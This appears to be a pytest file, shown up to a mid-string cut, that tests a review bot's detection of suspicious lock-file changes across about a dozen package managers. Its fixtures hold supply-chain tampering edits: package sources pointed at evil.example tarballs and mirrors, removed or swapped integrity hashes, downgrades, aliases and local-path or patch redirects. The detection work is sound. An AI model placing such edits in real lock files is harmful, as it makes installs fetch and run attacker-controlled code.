"""Unusual changes of a lock file are sent to the reviewer; ordinary updates are held back."""

from __future__ import annotations

import difflib
import json
import re
import time
import tomllib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewbot import values
from reviewbot.domain.diff.parse import ChangedFile, parse_diff
from reviewbot.domain.github.pull_request import Entry
from reviewbot.domain.selection.file_kinds import is_lock_file
from reviewbot.domain.selection.lockfiles import suspicions
from reviewbot.domain.selection.selection import HeldBecause, select


def change(path: str, old: str, new: str, *, read: bool = True) -> ChangedFile:
    """Return the change of a file from one text to another; four equal letters stand for a whole hash."""
    old, new = (
        re.sub(r"(?<![A-Za-z0-9])([a-z])\1{3}(?![A-Za-z0-9])", lambda one: one[1] * 64, text) for text in (old, new)
    )
    before, after = (re.findall("[^\n]*\n|[^\n]+", text) for text in (old, new))
    lines = difflib.unified_diff(before, after, f"a/{path}", f"b/{path}")
    headers = "" if old and new else f"{'new' if new else 'deleted'} file mode 100644\n"
    body = "".join(lines)
    if not old:
        body = body.replace(f"--- a/{path}", "--- /dev/null")
    if not new:
        body = body.replace(f"+++ b/{path}", "+++ /dev/null")
    (diff,) = parse_diff(f"diff --git a/{path} b/{path}\n{headers}{body}")
    return ChangedFile(
        diff,
        Entry("1" * 40, "100644") if old else None,
        Entry("2" * 40, "100644", text=new if read else None) if new else None,
    )


Edit = tuple[str, str]


@dataclass(frozen=True)
class Format:
    """A lock file of two packages, and an attacker's replacements."""

    path: str
    text: str
    attacks: Mapping[str, tuple[Edit, ...]]

    def edited(self, edits: tuple[Edit, ...]) -> str:
        text = self.text
        for old, new in edits:
            assert old in text, old
            text = text.replace(old, new, 1)
        return text


HASH, OTHER = "sha512-aaaa==", "sha512-bbbb=="
NPM = f"""{{
  "name": "shop",
  "lockfileVersion": 3,
  "packages": {{
    "": {{
      "name": "shop",
      "dependencies": {{ "left": "^1.2.0" }}
    }},
    "node_modules/left": {{
      "version": "1.2.0",
      "resolved": "https://registry.example/left/-/left-1.2.0.tgz",
      "integrity": "{HASH}",
      "funding": {{ "url": "https://fund.example/left" }}
    }},
    "node_modules/@x/right": {{
      "version": "2.0.0",
      "resolved": "git+ssh://git@github.com/good/right.git#{"1" * 40}"
    }}
  }}
}}
"""
NPM_URL = '"resolved": "https://registry.example/left/-/left-1.2.0.tgz"'
LOWER = f'{{"version": "1.1.9", {NPM_URL.replace("1.2.0", "1.1.9")}, "integrity": "{HASH}"}}'
NPM_ATTACKS = {
    "alias": ((NPM_URL, '"resolved": "https://registry.example/evil/-/evil-1.2.0.tgz"'),),
    "alias by name": (('"version": "1.2.0",', '"version": "1.2.0", "name": "evil",'),),
    "alias by scope": ((NPM_URL, '"resolved": "https://registry.example/@evil/left/-/left-1.2.0.tgz"'),),
    "alias in capitals": ((NPM_URL, '"resolved": "HTTPS://registry.example/evil/-/evil-1.2.0.tgz"'),),
    "port": ((NPM_URL, '"resolved": "https://registry.example:8443/left/-/left-1.2.0.tgz"'),),
    "protocol": ((NPM_URL, '"resolved": "svn+https://registry.example/left/-/left-1.2.0.tgz"'),),
    "archive of another version": (('"version": "1.2.0"', '"version": "1.10.0"'), (HASH, OTHER)),
    "alias by path": ((NPM_URL, '"resolved": "https://registry.example/left/../evil/-/evil-1.2.0.tgz"'),),
    "owner": (("github.com/good/", "github.com/evil/"),),
    "host": ((NPM_URL, '"resolved": "https://evil.example/left/-/left-1.2.0.tgz"'),),
    "http": ((NPM_URL, '"resolved": "http://registry.example/left/-/left-1.2.0.tgz"'),),
    "git": ((NPM_URL, '"resolved": "git+https://github.com/evil/left.git#1111111"'),),
    "path": ((NPM_URL, '"resolved": "../evil"'),),
    "no source": ((f"      {NPM_URL},\n", ""),),
    "no hash": ((f'"integrity": "{HASH}"', '"peer": true'),),
    "other hash": ((HASH, OTHER),),
    "lower": (('"version": "1.2.0"', '"version": "1.1.9"'), ("left-1.2.0", "left-1.1.9"), (HASH, OTHER)),
    "new by address": (
        (
            '    "node_modules/left":',
            '    "node_modules/evil": {"version": "https://evil.example/x.tgz"},\n    "node_modules/left":',
        ),
    ),
    "new by alias": (
        (
            '    "node_modules/left":',
            '    "node_modules/evil": {"version": "npm:worse@1.0.0"},\n    "node_modules/left":',
        ),
    ),
    "new by an odd name": (
        (
            '    "node_modules/left":',
            '    "node_modules/evil @ https:evil.example/x": {"version": "1.0.0"},\n    "node_modules/left":',
        ),
    ),
    "lower at another place": (
        (
            '    "node_modules/left":',
            f'    "node_modules/@x/right/node_modules/left": {LOWER},\n    "node_modules/left":',
        ),
    ),
    "no JSON": (("}\n}\n", "}\n"),),
    "twice": (('"version": "1.2.0",', '"version": "1.1.0", "version": "1.2.0",'),),
}
NPM_3 = {
    *("no hash", "no JSON", "no source"),
    *("new by address", "new by alias", "new by an odd name", "lower at another place"),
}
"""Attacks on another version of the format than the first."""
V1 = f"""{{
  "lockfileVersion": 1,
  "dependencies": {{
    "left": {{
      "version": "1.2.0",
      "resolved": "https://registry.example/left/-/left-1.2.0.tgz",
      "integrity": "{HASH}",
      "dependencies": {{
        "right": {{
          "version": "2.0.0",
          "resolved": "git+ssh://git@github.com/good/right.git#{"1" * 40}"
        }}
      }}
    }}
  }}
}}
"""
YARN = f"""# yarn lockfile v1


left@^1.0.0, left@^1.2.0:
  version "1.2.0"
  resolved "https://registry.example/left/-/left-1.2.0.tgz#abc"
  integrity {HASH}
  dependencies:
    "@x/right" "^2.0.0"

"@x/right@git+ssh://git@github.com/good/right.git":
  version "2.0.0"
  resolved "git+ssh://git@github.com/good/right.git#1111111"
"""
YARN_URL = 'resolved "https://registry.example/left/-/left-1.2.0.tgz#abc"'
BERRY = """# This file is generated by running "yarn install" inside your project.

__metadata:
  version: 8
  cacheKey: 10

"left@npm:^1.0.0, left@npm:^1.2.0":
  version: 1.2.0
  resolution: "left@npm:1.2.0"
  dependencies:
    right: "npm:^2.0.0"
  checksum: 10/aaaa
  languageName: node
  linkType: hard

"right@git@github.com:good/right.git":
  version: 2.0.0
  resolution: "right@git@github.com:good/right.git#commit=1111111"
  checksum: 10/cccc
  languageName: node
  linkType: hard
"""
PNPM = f"""lockfileVersion: '9.0'

settings:
  autoInstallPeers: true

importers:

  .:
    dependencies:
      left:
        specifier: ^1.2.0
        version: 1.2.0(peer@3.0.0)
      right:
        specifier: github:good/right
        version: https://codeload.github.com/good/right/tar.gz/1111111

packages:

  left@1.2.0:
    resolution: {{integrity: {HASH}}}
    engines: {{node: '>=8'}}

  right@https://codeload.github.com/good/right/tar.gz/1111111:
    resolution: {{tarball: https://codeload.github.com/good/right/tar.gz/1111111}}
    version: 2.0.0

snapshots:

  left@1.2.0(peer@3.0.0):
    dependencies:
      peer: 3.0.0
    optional: true
"""
PNPM_FORMS = """lockfileVersion: 5.4

specifiers:
  left: ^1.2.0

dependencies:
  left: 1.2.0_react@18.0.0
  lib: link:packages/lib

patchedDependencies:
  left@1.2.0:
    hash: abc
    path: patches/left.patch

packages:

  /left/1.2.0_react@18.0.0:
    resolution: {integrity: sha512-aaaa==}
    deprecated: |-
      do not use: it
      is old
    cpu: [x64]

  '@x/right@2.0.0':
    resolution: {commit: '1111111', repo: https://github.com/good/right, type: git}

snapshots:

  '@x/right@2.0.0': {}

  git@https://codeload.github.com/good/git/tar.gz/1: {}

  left@1.2.0:
    transitivePeerDependencies:
      - '@types/node'
      - supports-color
"""
CARGO = """version = 3

[[package]]
name = "left"
version = "1.2.0"
source = "registry+https://github.com/good-index/index"
checksum = "aaaa"

[[package]]
name = "right"
version = "2.0.0"
source = "git+https://github.com/good/right?branch=main#1111111"
"""
CARGO_SOURCE = 'source = "registry+https://github.com/good-index/index"'
POETRY = """[[package]]
name = "left"
version = "1.2.0"
files = [
    {file = "left-1.2.0.tar.gz", hash = "sha256:aaaa"},
]

[[package]]
name = "right"
version = "2.0.0"

[package.source]
type = "git"
url = "https://github.com/good/right.git"
reference = "HEAD"

[metadata]
lock-version = "2.0"
"""
POETRY_FILES = POETRY.replace("files = [\n", 'files = [\n    { file = "left-1.2.0.whl", hash = "sha256:cccc" },\n')
POETRY_NEEDS = POETRY.replace(
    "]\n\n[[package]]",
    ']\n\n[package.dependencies]\none = {version = "*"}\ntwo = [{version = "*"}, {version = "2", markers = "< 8"}]\n\n'
    "[[package]]",
)
OLD_POETRY_FILES = 'left = [{file = "left-1.2.0.tar.gz", hash = "sha256:aaaa"}]'
OLD_POETRY = f"""[[package]]
name = "left"
version = "1.2.0"

[[package]]
name = "right"
version = "2.0.0"

[package.source]
type = "git"
url = "https://github.com/good/right.git"

[metadata.files]
{OLD_POETRY_FILES}
"""
UV = """version = 1

[[package]]
name = "left-pad"
version = "1.2.0"
source = { registry = "https://registry.example/simple" }
sdist = { url = "https://files.example/aa/left_pad-1.2.0.tar.gz", hash = "sha256:aaaa", size = 9 }
wheels = [
    { url = "https://files.example/bb/left_pad-1.2.0-py3-none-any.whl", hash = "sha256:cccc", size = 9 },
]

[[package]]
name = "right"
version = "2.0.0"
source = { git = "https://github.com/good/right?rev=main#1111111" }
"""
UV_SOURCE = 'source = { registry = "https://registry.example/simple" }'
PIPENV = """{
    "_meta": {
        "sources": [{"name": "main", "url": "https://registry.example/simple", "verify_ssl": true}]
    },
    "default": {
        "left": {
            "hashes": ["sha256:aaaa"],
            "index": "main",
            "version": "==1.2.0"
        },
        "right": {
            "git": "https://github.com/good/right.git",
            "ref": "1111111"
        }
    },
    "develop": {}
}
"""
BUNDLER = """GIT
  remote: https://github.com/good/right.git
  revision: 1111111
  specs:
    right (2.0.0)

GEM
  remote: https://registry.example/
  specs:
    left (1.2.0)
      right (>= 2)

PLATFORMS
  ruby

DEPENDENCIES
  left
  right!

CHECKSUMS
  left (1.2.0) sha256=aaaa
  right (2.0.0)

BUNDLED WITH
   2.5.0
"""
COMPOSER = """{
    "packages": [
        {
            "name": "x/left",
            "version": "1.2.0",
            "source": {"type": "git", "url": "https://github.com/x/left.git", "reference": "1111111"},
            "dist": {
                "type": "zip",
                "url": "https://api.github.com/repos/x/left/zipball/1111111",
                "reference": "1111111",
                "shasum": "aaaa"
            },
            "homepage": "https://left.example"
        }
    ],
    "packages-dev": null
}
"""
NUGET = """{
  "version": 1,
  "dependencies": {
    "net8.0": {
      "Left": {
        "type": "Direct",
        "requested": "[1.2.0, )",
        "resolved": "1.2.0",
        "contentHash": "aaaa"
      },
      "Right": {"type": "Transitive", "resolved": "2.0.0", "contentHash": "cccc"}
    }
  }
}
"""
NUGET_PROJECT = NUGET.replace('"Left"', '"App": {"type": "Project"},\n      "Left"')
GO = """example.com/left v1.2.0 h1:aaaa=
example.com/left v1.2.0/go.mod h1:bbbb=
github.com/good/right v0.0.0-20260101000000-111111111111 h1:cccc=
"""
VERSION = ('"1.2.0"', '"1.10.0"')

FORMATS = [
    Format("package-lock.json", NPM, NPM_ATTACKS),
    Format("web/npm-shrinkwrap.json", NPM, NPM_ATTACKS),
    Format(
        "package-lock.json",
        V1,
        {name: edits for name, edits in NPM_ATTACKS.items() if name not in NPM_3},
    ),
    Format(
        "yarn.lock",
        YARN,
        {
            "alias": ((YARN_URL, 'resolved "https://registry.example/evil/-/evil-1.2.0.tgz#/left/"'),),
            "alias by escape": (
                (YARN_URL, r'resolved "https:\u002f\u002fregistry.example/evil/-/evil-1.2.0.tgz#abc"'),
            ),
            "alias by range": (("left@^1.0.0,", "left@npm:evil@^1.0.0,"),),
            "owner": (("github.com/good/", "github.com/evil/"), ("github.com/good/", "github.com/evil/")),
            "host": ((YARN_URL, 'resolved "https://evil.example/left/-/left-1.2.0.tgz#abc"'),),
            "http": ((YARN_URL, 'resolved "http://registry.example/left/-/left-1.2.0.tgz#abc"'),),
            "git": ((YARN_URL, 'resolved "git+https://github.com/evil/left.git#1111111"'),),
            "path": ((YARN_URL, 'resolved "file:./evil.tgz"'),),
            "path by range": (("left@^1.0.0,", "left@link:../evil,"),),
            "no source": ((f"  {YARN_URL}\n", ""),),
            "no hash": ((f"  integrity {HASH}\n", ""),),
            "other hash": ((HASH, OTHER),),
            "lower": ((' "1.2.0"', ' "1.2.0-rc.1"'), ("left-1.2.0", "left-1.2.0-rc.1"), (HASH, OTHER)),
            "another form": (('  version "1.2.0"', "  version\t1.2.0"),),
            "no header": (("left@^1.0.0, left@^1.2.0:\n", " left@^1.0.0:\n"),),
            "no name": (("left@^1.0.0, left@^1.2.0:\n", "left:\n"),),
        },
    ),
    Format(
        "yarn.lock",
        BERRY,
        {
            "alias": (('resolution: "left@npm:1.2.0"', 'resolution: "evil@npm:1.2.0"'),),
            "owner": (("github.com:good/", "github.com:evil/"), ("github.com:good/", "github.com:evil/")),
            "host": (('resolution: "left@npm:1.2.0"', 'resolution: "left@https://evil.example/left.tgz"'),),
            "http": (('resolution: "left@npm:1.2.0"', 'resolution: "left@http://registry.example/left.tgz"'),),
            "git": (('resolution: "left@npm:1.2.0"', 'resolution: "left@git@github.com:good/left.git#commit=1"'),),
            "path": (('resolution: "left@npm:1.2.0"', 'resolution: "left@portal:../evil"'),),
            "no hash": (("  checksum: 10/aaaa\n", ""),),
            "other hash": (("10/aaaa", "10/bbbb"),),
            "lower": (("version: 1.2.0", "version: 1.1.0"), ("left@npm:1.2.0", "left@npm:1.1.0"), ("10/aaaa", "10/b")),
            "nothing": (("left@npm:^1.0.0,", "left@npm:,"),),
            "archive": (
                ("left@npm:1.2.0", "left@npm:1.2.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fleft-1.2.0.tgz"),
            ),
            "archive of another version": (("version: 1.2.0", "version: 1.10.0"), ("10/aaaa", "10/bbbb")),
            "patch": (('resolution: "left@npm:1.2.0"', 'resolution: "left@patch:left@npm%3A1.2.0#./evil.patch"'),),
            "patch of another version": (
                (
                    'resolution: "left@npm:1.2.0"',
                    'resolution: "left@patch:left@npm%3A1.1.0#optional!builtin<compat/left>::version=1.2.0&hash=a"',
                ),
            ),
        },
    ),
    Format(
        "pnpm-lock.yaml",
        PNPM,
        {
            "alias": (("version: 1.2.0(peer@3.0.0)", "version: evil@1.2.0"), ("  left@1.2.0:", "  evil@1.2.0:")),
            "alias by name": (("    engines: {node: '>=8'}", "    name: evil"),),
            "owner": tuple(("codeload.github.com/good/", "codeload.github.com/evil/") for _ in range(3)),
            "host": (
                (f"{{integrity: {HASH}}}", f"{{integrity: {HASH}, tarball: https://evil.example/left-1.2.0.tgz}}"),
            ),
            "http": (("tarball: https:", "tarball: http:"),),
            "git": (
                (f"resolution: {{integrity: {HASH}}}", "resolution: {type: git, repo: https://github.com/evil/left}"),
            ),
            "path": (("version: 1.2.0(peer@3.0.0)", "version: link:../evil"),),
            "directory": ((f"{{integrity: {HASH}}}", "{directory: ../evil, type: directory}"),),
            "no hash": ((f"    resolution: {{integrity: {HASH}}}\n", "    hasBin: true\n"),),
            "another form": ((f"{{integrity: {HASH}}}", "&x evil"),),
            "other hash": ((HASH, OTHER),),
            "lower": (*(("1.2.0", "1.1.0") for _ in range(4)), (HASH, OTHER)),
            "quoted tarball": ((f"{HASH}}}", f'{HASH}, "tarball": https://evil.example/left-1.2.0.tgz}}'),),
            "tarball with a space": ((f"{HASH}}}", f"{HASH}, tarball : https://evil.example/left-1.2.0.tgz}}"),),
            "tarball on the next line": (
                (f"{HASH}}}", f"{HASH},\n      tarball: https://evil.example/left-1.2.0.tgz}}"),
            ),
            "another field": ((f"{HASH}}}", f"{HASH}, variations: evil}}"),),
            "quoted resolution": (
                ("\nsnapshots:", '\n  mid@1.0.0:\n    "resolution": {tarball: https://x}\n\nsnapshots:'),
            ),
            "resolution of two lines": (
                ("\nsnapshots:", "\n  mid@1.0.0:\n    resolution:\n      tarball: https://x\n\nsnapshots:"),
            ),
            "resolution behind a line end": (
                ("\nsnapshots:", "\n  mid@1.0.0:\r    resolution: {tarball: https://x}\n\nsnapshots:"),
            ),
            "alias on the next line": (("version: 1.2.0(peer@3.0.0)", "version:\n          evil@1.2.0"),),
            "override": (("settings:", "overrides:\n  left: npm:evil@1.2.0\n\nsettings:"),),
        },
    ),
    Format(
        "Cargo.lock",
        CARGO,
        {
            "alias": ((CARGO_SOURCE, f'{CARGO_SOURCE}\nurl = "https://registry.example/evil-1.2.0.crate"'),),
            "owner": (("github.com/good/right", "github.com/evil/right"),),
            "host": (("https://github.com/good-index", "https://evil.example/good-index"),),
            "http": (("registry+https:", "registry+http:"),),
            "git": ((CARGO_SOURCE, 'source = "git+https://github.com/evil/left#1111111"'),),
            "path": ((f"{CARGO_SOURCE}\n", ""),),
            "no hash": (('checksum = "aaaa"\n', ""),),
            "other hash": (('"aaaa"', '"bbbb"'),),
            "lower": (('"1.2.0"', '"1.1.0"'), ('"aaaa"', '"bbbb"')),
            "no TOML": (("[[package]]", "[[package"),),
            "patch": (("version = 3\n", 'version = 3\n[[patch.unused]]\nname = "left"\n'),),
            "checksums apart": (
                ('checksum = "aaaa"\n', ""),
                ('#1111111"\n', '#1111111"\n[metadata]\n"checksum left 1.2.0 (x)" = "bbbb"\n'),
            ),
            "replace": (('version = "1.2.0"', 'version = "1.2.0"\nreplace = "evil 1.2.0"'),),
        },
    ),
    Format(
        "poetry.lock",
        POETRY,
        {
            "file": (('"left-1.2.0.tar.gz"', '"https://registry.example/left-1.2.0.tar.gz"'),),
            "owner": (("github.com/good/", "github.com/evil/"),),
            "host": (("https://github.com/good", "https://evil.example/good"),),
            "http": (("https://github.com", "http://github.com"),),
            "git": (
                (
                    "]\n\n[[package]]",
                    ']\n\n[package.source]\ntype = "git"\nurl = "https://github.com/good/x"\n[[package]]',
                ),
            ),
            "path": (("]\n\n[[package]]", ']\n\n[package.source]\ntype = "directory"\nurl = "../evil"\n[[package]]'),),
            "no hash": (('{file = "left-1.2.0.tar.gz", hash = "sha256:aaaa"},', ""),),
            "other hash": (("sha256:aaaa", "sha256:bbbb"),),
            "lower": (('"1.2.0"', '"1.2.0rc1"'), ("left-1.2.0", "left-1.2.0rc1"), ("sha256:aaaa", "sha256:bbbb")),
        },
    ),
    Format(
        "old/poetry.lock",
        OLD_POETRY,
        {
            "owner": (("github.com/good/", "github.com/evil/"),),
            "host": (("https://github.com/good", "https://evil.example/good"),),
            "http": (("https://github.com", "http://github.com"),),
            "other hash apart": (
                (
                    'version = "1.2.0"\n',
                    'version = "1.2.0"\nfiles = [{file = "left-1.2.0.tar.gz", hash = "sha256:aaaa"}]\n',
                ),
                (OLD_POETRY_FILES, OLD_POETRY_FILES.replace("aaaa", "bbbb")),
            ),
            "git": (('version = "1.2.0"\n', 'version = "1.2.0"\nsource = {git = "https://github.com/good/x"}\n'),),
            "path": (('version = "1.2.0"\n', 'version = "1.2.0"\nsource = {path = "../evil"}\n'),),
            "no hash": (('{file = "left-1.2.0.tar.gz", hash = "sha256:aaaa"}', ""),),
            "other hash": (("sha256:aaaa", "sha256:bbbb"),),
            "lower": (('"1.2.0"', '"1.1.0"'), ("sha256:aaaa", "sha256:bbbb")),
        },
    ),
    Format(
        "uv.lock",
        UV,
        {
            "alias": (("left_pad-1.2.0.tar.gz", "evil-1.2.0.tar.gz"),),
            "alias by prefix": (("left_pad-1.2.0.tar.gz", "left_pad_evil-1.2.0.tar.gz"),),
            "alias by prefix and digit": (("left_pad-1.2.0.tar.gz", "left_pad_2evil-1.2.0.tar.gz"),),
            "owner": (("github.com/good/", "github.com/evil/"),),
            "host": (("https://files.example/aa", "https://evil.example/aa"),),
            "http": (("https://files.example/aa", "http://files.example/aa"),),
            "git": ((UV_SOURCE, 'source = { git = "https://github.com/good/left" }'),),
            "path": ((UV_SOURCE, 'source = { editable = "../evil" }'),),
            "no hash": ((', hash = "sha256:aaaa"', ""), (', hash = "sha256:cccc"', "")),
            "other hash": (("sha256:aaaa", "sha256:bbbb"), ("sha256:cccc", "sha256:dddd")),
            "lower": (('"1.2.0"', '"0.9"'), ("_pad-1.2.0", "_pad-0.9"), ("_pad-1.2.0", "_pad-0.9"), (":aaaa", ":bbbb")),
        },
    ),
    Format(
        "Pipfile.lock",
        PIPENV,
        {
            "owner": (("github.com/good/", "github.com/evil/"),),
            "host": (("https://registry.example", "https://evil.example"),),
            "http": (("https://registry.example", "http://registry.example"),),
            "git": (('"index": "main"', '"git": "https://github.com/good/x.git"'),),
            "path": (('"index": "main"', '"path": "../evil"'),),
            "file": (('"index": "main"', '"file": "https://evil.example/left-1.2.0.tar.gz"'),),
            "no hash": (('"hashes": ["sha256:aaaa"],', ""),),
            "other hash": (("sha256:aaaa", "sha256:bbbb"),),
            "lower": (("==1.2.0", "==1.1.0"), ("sha256:aaaa", "sha256:bbbb")),
        },
    ),
    Format(
        "Gemfile.lock",
        BUNDLER,
        {
            "owner": (("github.com/good/", "github.com/evil/"),),
            "host": (("https://registry.example", "https://evil.example"),),
            "http": (("https://registry.example", "http://registry.example"),),
            "git": (("right (2.0.0)", "right (2.0.0)\n    left (1.2.0)"), ("    left (1.2.0)\n      r", "      r")),
            "path": (("GEM\n  remote: https://registry.example/", "PATH\n  remote: ../evil"),),
            "no hash": (("left (1.2.0) sha256=aaaa", "left (1.2.0)"),),
            "no hashes": (("CHECKSUMS\n  left (1.2.0) sha256=aaaa\n  right (2.0.0)\n\n", ""),),
            "other hash": (("sha256=aaaa", "sha256=bbbb"),),
            "lower": (("left (1.2.0)", "left (1.1.0)"), ("left (1.2.0) sha256=aaaa", "left (1.1.0) sha256=b")),
            "another section": (("PLATFORMS", "PLATFORM"),),
            "lower bundler": (("   2.5.0", "   2.4.22"),),
            "two bundlers": (("   2.5.0", "   2.5.0\n   2.4.22"),),
        },
    ),
    Format(
        "composer.lock",
        COMPOSER,
        {
            "alias": (("repos/x/left/zipball", "repos/evil/left/zipball"),),
            "owner": (("github.com/x/", "github.com/evil/"),),
            "host": (("https://api.github.com", "https://evil.example"),),
            "http": (("https://api.github.com", "http://api.github.com"),),
            "mirror": (
                ('"shasum": "aaaa"', '"shasum": "aaaa", "mirrors": [{"url": "https://evil.example/%package%"}]'),
            ),
            "git": (("https://github.com/x/left.git", "git+ssh://git@evil.example/x/left.git"),),
            "path": (
                ('"type": "zip"', '"type": "path"'),
                ("https://api.github.com/repos/x/left/zipball/1111111", "../evil"),
            ),
            "no hash": ((',\n                "shasum": "aaaa"', ""),),
            "other hash": (('"aaaa"', '"bbbb"'),),
            "lower": (('"1.2.0"', '"1.1.0"'), ('"aaaa"', '"bbbb"')),
        },
    ),
    Format(
        "src/packages.lock.json",
        NUGET,
        {
            "path": (('"type": "Direct"', '"type": "Project"'),),
            "no hash": ((',\n        "contentHash": "aaaa"', ""),),
            "other hash": (('"aaaa"', '"bbbb"'),),
            "lower": (('"resolved": "1.2.0"', '"resolved": "1.1.0"'), ('"aaaa"', '"bbbb"')),
            "no object": (('"dependencies": {', '"dependency": {'),),
        },
    ),
    Format(
        "go.sum",
        GO,
        {
            "no hash": ((" h1:aaaa=", ""),),
            "other hash": (("h1:aaaa", "h1:zzzz"),),
            "lower": (("v1.2.0 h1:aaaa", "v1.1.0 h1:dddd"),),
            "older commit": (("20260101000000-111111111111 h1:cccc", "20250101000000-222222222222 h1:ffff"),),
        },
    ),
]


@pytest.mark.parametrize(
    ("one", "attack"),
    [
        pytest.param(one, edits, id=f"{number}-{one.path}-{name}")
        for number, one in enumerate(FORMATS)
        for name, edits in one.attacks.items()
    ],
)
def test_unusual_lock_file_changes_are_reviewed(one: Format, attack: tuple[Edit, ...]) -> None:
    file = change(one.path, one.text, one.edited(attack))
    assert suspicions(file)
    selection = select([file], paths=(), attributes="")
    assert [(sent.path, sent.text) for sent in selection.selected] == [(one.path, None)]
    assert any(f"`{one.path}` is selected for review, because " in notice for notice in selection.notices)


def test_the_notice_joins_the_reasons_to_a_sentence() -> None:
    one = next(one for one in FORMATS if one.path == "package-lock.json" and one.attacks.keys() >= {"host", "no hash"})
    file = change(one.path, one.text, one.edited((*one.attacks["host"], *one.attacks["no hash"])))
    (first, last), (notice,) = suspicions(file), select([file], paths=(), attributes="").notices
    assert notice == f"`package-lock.json` is selected for review, because {first}, and {last}."


@dataclass(frozen=True)
class Update:
    """An entry as a package manager writes it, and the texts that its update replaces everywhere."""

    path: str
    text: str
    edits: Mapping[str, str]

    def change(self) -> ChangedFile:
        """Return the change of the file."""
        new = self.text
        for old, now in self.edits.items():
            assert old in new, old
            new = new.replace(old, now)
        return change(self.path, self.text, new)


COMMIT, FORK = "0f8a3c5e" * 5, "9b1d7e42" * 5
PYPI = ("4a/8b/" + "1c2d3e" * 10, "f0/9e/" + "7a6b5c" * 10)
FILES = f"https://files.example/packages/{PYPI[0]}/pydantic_core-2.27.0"


def npm(name: str, **value: object) -> str:
    """Return a package lock with one entry."""
    return npm_of({f"node_modules/{name}": value})


def npm_of(places: Mapping[str, object]) -> str:
    """Return a package lock with these entries."""
    return json.dumps({"lockfileVersion": 3, "packages": {"": {}, **places}}, indent=1) + "\n"


SCOPED = "registry.example/@evil.example/x/-/x-1.2.0.tgz"
OVERRIDES = f"lockfileVersion: '9.0'\n\noverrides:\n  left: ^1.2.0\n\n{PNPM[PNPM.index('packages:') :]}"
UV_TWICE = f"""{UV}
[[package]]
name = "more"
version = "1.0.0"
{UV_SOURCE}
dependencies = [{{ name = "left-pad" }}]
sdist = {{ hash = "sha256:eeee" }}
"""
PIPENV_TWO = PIPENV.replace('"sources": [', '"sources": [{"name": "b", "url": "https://b.example"}, ')
UPDATES = [
    Update("pnpm-lock.yaml", OVERRIDES, {"left: ^1.2.0": "left: '>=1.3.0'"}),
    Update("Pipfile.lock", PIPENV, {'            "index": "main",\n': ""}),
    Update(
        "Pipfile.lock",
        PIPENV.replace('            "index": "main",\n', ""),
        {'"version"': '"index": "main", "version"'},
    ),
    Update(
        "uv.lock",
        UV_TWICE,
        {'name = "left-pad" }': f'name = "left-pad", extra = ["a"], version = "1.2.0", {UV_SOURCE}, marker = "x" }}'},
    ),
    Update("poetry.lock", POETRY_NEEDS, {'{version = "*"}': '{version = "*", markers = "x"}', "< 8": "< 9"}),
    Update("poetry.lock", POETRY_FILES, {'    { file = "left-1.2.0.whl", hash = "sha256:cccc" },\n': ""}),
    Update(
        "package-lock.json",
        npm("@x/left", version="1.2.0", resolved="https://registry.example/@x/left/-/left-1.2.0.tgz"),
        {"example/@x/left": "example/@x%2fleft"},
    ),
    Update("web/npm-shrinkwrap.json", NPM, {"1.2.0": "1.10.0", HASH: OTHER, "fund.example": "other.example"}),
    Update("package-lock.json", V1, {"1.2.0": "1.10.0", HASH: OTHER}),
    Update("poetry.lock", OLD_POETRY, {"1.2.0": "1.10.0", "aaaa": "bbbb"}),
    Update("packages.lock.json", NUGET, {"1.2.0": "1.10.0", "aaaa": "bbbb", '"Transitive"': '"Direct"'}),
    Update("go.sum", GO, {"v0.0.0-20260101000000-111111111111 h1:cccc": "v0.0.0-20260201000000-222222222222 h1:ffff"}),
    Update(
        "package-lock.json",
        npm(
            "@babel/core",
            version="7.26.0",
            resolved="https://registry.example/@babel/core/-/core-7.26.0.tgz",
            integrity=HASH,
            dev=True,
            license="MIT",
            dependencies={"semver": "^6.3.1", "convert-source-map": "^2.0.0", "ms-cjs": "npm:ms@^2.0.0"},
            engines={"node": ">=6.9.0"},
            funding={"type": "opencollective", "url": "https://opencollective.com/babel"},
        ),
        {"7.26.0": "7.26.10", HASH: OTHER, "^6.3.1": "^6.4.0", "ms@^2.0.0": "ms@^2.1.0", '"dev": true': '"dev": false'},
    ),
    Update(
        "pnpm-lock.yaml",
        f"""lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      vite:
        specifier: ^5.4.0
        version: 5.4.10(@types/node@22.9.0)

packages:

  vite@5.4.10:
    resolution: {{integrity: {HASH}}}
    engines: {{node: ^18.0.0 || >=20.0.0}}
    hasBin: true
    peerDependencies:
      '@types/node': ^18.0.0 || >=20.0.0
    peerDependenciesMeta:
      '@types/node':
        optional: true

snapshots:

  vite@5.4.10(@types/node@22.9.0):
    dependencies:
      esbuild: 0.21.5
      jiti: '@x/jiti@2.4.0'
    optionalDependencies:
      '@types/node': 22.9.0
    transitivePeerDependencies:
      - '@types/node'
""",
        {
            "^5.4.0": "^5.4.11",
            "^18.0.0": "^19.0.0",
            "5.4.10": "5.4.11",
            HASH: OTHER,
            "22.9.0": "22.9.1",
            "0.21.5": "0.22.0",
            "2.4.0": "2.4.1",
        },
    ),
    Update(
        "yarn.lock",
        f"""# yarn lockfile v1


"@babel/core@^7.0.0", "@babel/core@^7.26.0":
  version "7.26.0"
  resolved "https://registry.example/@babel/core/-/core-7.26.0.tgz#{COMMIT}"
  integrity {HASH}
  dependencies:
    "@babel/types" "^7.26.0"
    semver "^6.3.1"

"width-cjs@npm:width@^4.2.0", width@^4.1.0:
  version "4.2.3"
  resolved "https://registry.example/width/-/width-4.2.3.tgz#{COMMIT}"
  integrity {HASH}
""",
        {
            "7.26.0": "7.26.10",
            COMMIT: FORK,
            HASH: OTHER,
            "^6.3.1": "^6.4.0",
            "width@^4.2.0": "width@^4.3.0",
            "4.2.3": "4.3.0",
        },
    ),
    Update(
        "yarn.lock",
        """__metadata:
  version: 8
  cacheKey: 10c0

"@babel/core@npm:^7.0.0, @babel/core@npm:^7.26.0":
  version: 7.26.0
  resolution: "@babel/core@npm:7.26.0"
  dependencies:
    "@babel/types": "npm:^7.26.0"
    ms-cjs: "npm:ms@^2.0.0"
  peerDependenciesMeta:
    typescript:
      optional: true
  checksum: 10c0/aaaa
  languageName: node
  linkType: hard
""",
        {"7.26.0": "7.26.10", "10c0/aaaa": "10c0/bbbb", "ms@^2.0.0": "ms@^2.1.0"},
    ),
    Update(
        "Cargo.lock",
        """version = 4

[[package]]
name = "serde"
version = "1.0.215"
source = "registry+https://github.com/rust-lang/crates.io-index"
